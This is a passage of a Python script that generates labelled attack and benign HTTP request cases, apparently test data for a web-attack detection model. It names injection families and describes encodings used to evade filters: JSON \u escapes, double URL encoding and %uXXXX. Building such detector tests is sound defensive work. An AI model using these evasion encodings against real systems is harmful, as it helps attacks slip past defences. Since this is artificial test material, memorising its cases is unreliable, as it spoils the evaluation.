            add("prose", json_req("POST", "/api/v1/support/tickets", {"subject": text[:40], "body": text, "requester": {"name": f"{f} {l}", "email": email}, "priority": "normal"}), "support ticket")
        elif k == 1:
            add("prose", json_req("POST", f"/api/v1/products/{RNG.randrange(1000, 9999)}/reviews", {"rating": RNG.randrange(1, 6), "title": text.split(".")[0][:60], "body": text, "verified_purchase": True}), "product review")
        elif k == 2:
            add("prose", json_req("POST", "/api/v1/chat/messages", {"conversation_id": uuid(), "sender": "customer", "text": text, "sent_at": iso()}), "chat message")
        else:
            add("prose", form_req("POST", "/api/v1/feedback", [("name", f"{f} {l}"), ("email", email), ("message", text)]), "feedback form")
    for i, text in enumerate(PROSE[:20]):
        add("prose", request("GET", "/api/v1/help/search?" + urlencode({"q": text[:80]}), base_headers()), "help-centre search with a full sentence")

    # --- code and markup posted as content -------------------------------------------------------
    for i, post in enumerate(CODE_POSTS):
        if i % 3 == 2:
            add("code-content", json_req("POST", "/api/v1/snippets", {"title": post.split("\n")[0][:50], "language": "markdown", "content": post, "public": True}), "code snippet")
        else:
            add("code-content", json_req("POST", f"/api/v1/forum/threads/{RNG.randrange(100, 999)}/posts", {"body_markdown": post, "author_id": RNG.randrange(1000, 9999)}), "developer-forum post")

    # --- i18n and emoji --------------------------------------------------------------------------
    for i, text in enumerate(I18N):
        if i % 2:
            add("i18n", json_req("POST", f"/api/v1/products/{RNG.randrange(1000, 9999)}/reviews", {"rating": 5, "body": text, "lang": "auto"}, ascii_only=True), "non-Latin review, \\u-escaped by the client")
        else:
            add("i18n", json_req("POST", f"/api/v1/products/{RNG.randrange(1000, 9999)}/reviews", {"rating": 5, "body": text, "lang": "auto"}), "non-Latin review")
    for q in ["東京 ホテル", "кроссовки nike", "café au lait", "💍 ring", "北京烤鸭", "naïve façade"]:
        add("i18n", request("GET", "/api/v1/search?" + urlencode({"q": q}), base_headers() + [["Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7"]]), "non-Latin search")
    for name in ["張偉", "Ангелина Д'Арк", "محمد العلي", "김민준", "Þórunn Ólafsdóttir"]:
        add("i18n", json_req("PATCH", "/api/v1/users/me", {"display_name": name, "timezone": "Asia/Tokyo"}), "non-Latin name")

    # --- URLs and e-mail addresses ----------------------------------------------------------------
    for i, url in enumerate(WEBSITES):
        k = i % 3
        if k == 0:
            add("urls", json_req("PATCH", "/api/v1/users/me", {"website": url, "email": person()[2]}), "profile website")
        elif k == 1:
            add("urls", json_req("POST", "/api/v1/webhooks", {"url": url, "events": ["order.created", "order.shipped"], "secret": hexid(32)}), "webhook to a public URL")
        else:
            add("urls", request("GET", "/api/v1/link-preview?" + urlencode({"url": url}), base_headers()), "link preview of a public URL")
    for nxt in ["/account/orders?page=2", "https://app.shop.example/dashboard?tab=orders&sort=-created_at", "/checkout/step-2#payment", "https://shop.example/p/oak-chair"]:
        add("urls", request("GET", "/api/v1/session/continue?" + urlencode({"next": nxt}), base_headers()), "post-login redirect target")
    for host in ["status.example.com", "www.bbc.co.uk", "news.ycombinator.com", "10.example.org"]:
        add("urls", json_req("POST", "/api/v1/monitors", {"name": "Homepage", "url": f"https://{host}/", "interval_s": 60, "expect_status": 200}), "uptime monitor on a public host")
    for e in ["first.last+tag@sub.example.co.uk", "o'brien@example.ie", "\"quoted local\"@example.com", "user%team@example.org", "ceo@union-select.example"]:
        add("urls", json_req("POST", "/api/v1/invites", {"email": e, "role": "viewer"}), "unusual but valid e-mail address")
    add("urls", request("GET", "/api/v1/users?email=" + quote("anna.o'neill@example.com", safe=""), base_headers()), "e-mail lookup")

    # --- identifiers, dates, numbers, tokens -------------------------------------------------------
    for i in range(39):
        k = i % 13
        h = base_headers()
        if k == 0:
            add("identifiers", request("GET", f"/api/v1/orders/{uuid()}/items/{uuid()}", h), "UUIDs in the path")
        elif k == 1:
            add("identifiers", request("GET", f"/api/v1/metrics?from={quote(iso(1))}&to={quote(iso(28))}&step=PT5M&agg=p95", h), "ISO dates and durations")
        elif k == 2:
            add("identifiers", json_req("POST", "/api/v1/measurements", {"values": [0, -1, 3.14159, -2.5e-7, 1e21, 9007199254740993, 0.1], "unit": "m/s²", "recorded_at": iso()}), "numbers")
        elif k == 3:
            add("identifiers", request("GET", f"/api/v1/feed?cursor={base64.b64encode(json.dumps({'id': RNG.randrange(10**6), 'ts': iso()}).encode()).decode()}&limit=30", h), "base64 cursor")
        elif k == 4:
            add("identifiers", request("GET", f"/api/v1/products/{RNG.randrange(1000, 9999)}", h + [["If-None-Match", f'W/"{hexid(16)}"'], ["Cache-Control", "no-cache"]]), "conditional GET")
        elif k == 5:
            add("identifiers", request("GET", "/api/v1/users/me", h + [["traceparent", f"00-{hexid(32)}-{hexid(16)}-01"], ["X-Request-Id", uuid()], ["X-Forwarded-For", "203.0.113.7, 10.0.3.14"]]), "tracing headers")
        elif k == 6:
            add("identifiers", request("GET", "/api/v1/cart", base_headers(auth=False) + [["Cookie", f"session={b64url(RNG.randbytes(32))}; csrftoken={hexid(32)}; _ga=GA1.2.{RNG.randrange(10**9)}.1716200000; consent=%7B%22analytics%22%3Atrue%7D"]]), "browser cookies")
        elif k == 7:
            add("identifiers", json_req("POST", "/api/v1/files/verify", {"sha256": hexid(64), "md5": hexid(32), "size": 1048576, "etag": hexid(32)}), "hashes")
        elif k == 8:
            add("identifiers", request("GET", "/api/v1/exchange-rates?base=EUR&symbols=USD,GBP,JPY&date=2024-05-14", h + [["Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"]]), "currency codes")
        elif k == 9:
            add("identifiers", json_req("POST", "/api/v1/devices", {"device_id": uuid(), "push_token": hexid(64), "platform": "ios", "os_version": "17.4.1", "app_build": "5120(3)"}), "device registration")
        elif k == 10:
            add("identifiers", request("GET", f"/api/v1/shipments/{RNG.choice(['1Z999AA10123456784', 'JD014600006281234567', 'LX123456789DE'])}/tracking", h), "tracking numbers")
        elif k == 11:
            add("identifiers", json_req("POST", "/api/v1/payouts", {"iban": "DE89 3704 0044 0532 0130 00", "bic": "COBADEFFXXX", "amount": "1250.00", "reference": "Payout 2024/05 (#4411)"}), "bank details")
        else:
            add("identifiers", request("GET", "/api/v1/orders?created_at[gte]=2024-01-01&created_at[lt]=2024-02-01&total[gt]=99.99", h), "range filters in brackets")

    # --- rich text (HTML from an editor), message templates, build settings --------------------
    for i, html in enumerate(RICH_TEXT):
        if i % 2:
            add("rich-text", json_req("PUT", f"/api/v1/products/{2000 + i}", {"description_html": html, "status": "draft"}), "rich-text product description")
        else:
            add("rich-text", json_req("POST", "/api/v1/support/tickets/8812/replies", {"body_html": html, "public": True}), "rich-text ticket reply")
    for i, tpl in enumerate(TEMPLATES):
        add("templates", json_req("PUT", f"/api/v1/notifications/templates/{['shipped', 'welcome', 'receipt', 'reminder'][i % 4]}", {"subject": "Update from Shop", "body": tpl, "engine": "handlebars" if "{{#" in tpl else "liquid"}), "customer-written message template")
    for i, cfg in enumerate(DEVOPS):
        add("devops-config", json_req("PATCH", f"/api/v1/sites/{uuid()}/build-settings", cfg), "build and deploy settings of a hosting API")

    # --- long texts ----------------------------------------------------------------------------
    for i in range(5):
        sentences = RNG.sample(PROSE, 12 + 9 * i)
        text = "\n\n".join(" ".join(sentences[j:j + 3]) for j in range(0, len(sentences), 3))
        add("long-text", json_req("POST", "/api/v1/support/tickets", {"subject": "Several problems with my order", "body": text}), "long support ticket")
    for i, doc in enumerate(LONG_DOCS):
        if i % 2:
            add("long-text", json_req("PUT", f"/api/v1/products/{1000 + i}", {"name": doc.split("\n")[0].lstrip("# "), "description_markdown": doc, "sku": f"LONG-{i}"}), "long product description")
        else:
            add("long-text", json_req("POST", "/api/v1/cms/pages", {"slug": f"page-{i}", "title": doc.split("\n")[0].lstrip("# "), "body_markdown": doc, "published": True}), "long CMS page")
    return out


# ---------------------------------------------------------------------------------------------

FAMILIES = [
    ("sqli", SQLI, SQLI_LOCS), ("xss", XSS, XSS_LOCS), ("traversal", TRAVERSAL, TRAVERSAL_LOCS), ("rfi", RFI, RFI_LOCS),
    ("cmdi", CMDI, CMDI_LOCS), ("ssrf", SSRF, SSRF_LOCS), ("jndi", JNDI, JNDI_LOCS), ("ssti", SSTI, SSTI_LOCS),
    ("ldapi", LDAPI, LDAPI_LOCS), ("crlf", CRLF, ["query-raw"]),
]


# The encodings issue 3 lists, applied to payloads of each family that otherwise travel plain:
# \uXXXX escapes in JSON (every JSON parser decodes them), URL encoding applied twice (an
# application or proxy that decodes twice) and IIS-style %uXXXX.
EVASIONS = [(2, "json-u", "\\u-escaped in JSON"), (5, "query-double", "double URL encoding"), (8, "query-u", "%uXXXX encoding")]


def evasion_variants(fam, payloads):
    """(payload, note, location) for the EVASIONS of a family; RFI has no JSON position."""
    plain = [(p, note) for p, note, loc, _ in payloads if loc is None]
    for at, loc, how in EVASIONS:
        if fam == "rfi" and loc == "json-u":
            continue
        p, note = plain[at % len(plain)]
        yield p, f"{note}; {how}", loc


def record(id_, label, category, req, family, location, note):
    return {"id": id_, "source": "vigil", "label": label, "category": category, "request": req,
            "meta": {"family": family, "location": location, "note": note}}


def main():
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "shared-model/tests/data/api_cases.jsonl"
    recs = []
    for fam, payloads, locs in FAMILIES:
        placer = Placer(fam)
        for i, (p, note, loc, field) in enumerate(payloads):
            loc = loc or locs[i % len(locs)]
            recs.append(record(f"api-{fam}-{i + 1:03d}", "attack", f"attack:{fam}", placer.place(loc, p, field), fam, loc, note))
        if fam != "crlf":  # CRLF payloads carry their own encodings
            for j, (p, note, loc) in enumerate(evasion_variants(fam, payloads)):
                recs.append(record(f"api-{fam}-e{j + 1:02d}", "attack", f"attack:{fam}", placer.place(loc, p), fam, loc, note))
    for fam, build in [("nosqli", nosql_cases), ("xxe", xxe_cases), ("smuggling", smuggling_cases), ("scanner", scanner_cases)]:
        for i, (req, note, loc) in enumerate(build()):
            recs.append(record(f"api-{fam}-{i + 1:03d}", "attack", f"attack:{fam}", req, fam, loc, note))
    counters = {}
    for kind, req, note in benign_cases():
        counters[kind] = counters.get(kind, 0) + 1
        loc = "body" if req["body"] else "query" if "?" in req["path"] else "path"
        recs.append(record(f"api-benign-{kind}-{counters[kind]:03d}", "benign", f"benign:{kind}", req, kind, loc, note))
    ids = [r["id"] for r in recs]
    assert len(ids) == len(set(ids)), "duplicate ids"
    out.parent.mkdir(parents=True, exist_ok=True)
    with out.open("w", encoding="utf-8") as f:
        for r in recs:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    attacks = sum(r["label"] == "attack" for r in recs)
    print(f"{out}: {len(recs)} cases ({attacks} attacks, {len(recs) - attacks} benign)")


if __name__ == "__main__":
    main()
